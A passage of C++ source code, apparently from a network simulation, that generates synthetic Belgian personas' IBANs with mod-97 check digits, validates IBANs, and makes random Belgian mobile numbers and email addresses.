    // Belgian account number: 3-digit bank code, 7 digits, 2 check digits (first ten mod 97, 0 → 97).
    const std::string ten = Pad(100 + rng() % 900, 3) + Pad(rng() % 10000000, 7);
    int national = Mod97(ten);
    if (national == 0) national = 97;
    const std::string bban = ten + Pad(static_cast<unsigned long long>(national), 2);
    // ISO 13616: BBAN + "BE00" as digits (B = 11, E = 14); check = 98 − mod 97.
    const int check = 98 - Mod97(bban + "111400");
    std::string iban = "BE" + Pad(static_cast<unsigned long long>(check), 2) + bban;
    if (!grouped) return iban;
    std::string out;
    for (std::size_t i = 0; i < iban.size(); ++i) {
        if (i > 0 && i % 4 == 0) out += ' ';
        out += iban[i];
    }
    return out;
}

bool ValidIban(std::string_view text) {
    std::string compact;
    for (char c : text) {
        if (c != ' ') compact += c;
    }
    if (compact.size() < 5) return false;
    const std::string rearranged = compact.substr(4) + compact.substr(0, 4);
    std::string digits;
    for (char c : rearranged) {
        if (c >= '0' && c <= '9') {
            digits += c;
        } else if (c >= 'A' && c <= 'Z') {
            digits += std::to_string(c - 'A' + 10);
        } else {
            return false;
        }
    }
    return Mod97(digits) == 1;
}

std::string BelgianMobile(Rng& rng) {
    const std::string n = "4" + Pad(70 + rng() % 30, 2) + Pad(rng() % 1000000, 6);
    if (rng() % 2) return "+32 " + n.substr(0, 3) + " " + n.substr(3, 2) + " " + n.substr(5, 2) + " " + n.substr(7, 2);
    return "0" + n.substr(0, 3) + "/" + n.substr(3, 2) + "." + n.substr(5, 2) + "." + n.substr(7, 2);
}

std::string Email(Rng& rng, const Persona& persona) {
    static const List kDomains{"gmail.com", "skynet.be", "telenet.be", "proximus.be", "hotmail.com", "outlook.be"};
    std::string first = Joined(Fold(persona.first), '-');
    std::string last = Joined(Fold(persona.last), '-');
    const std::string& domain = Pick(rng, kDomains);
    switch (rng() % 3) {
        case 0:
            return first + "." + last + "@" + domain;
        case 1:
            return first.substr(0, 1) + last + std::to_string(rng() % 90 + 10) + "@" + domain;
        default:
            return last + "." + first + "@" + domain;
    }
}

}  // namespace belfry::netsim::citizens
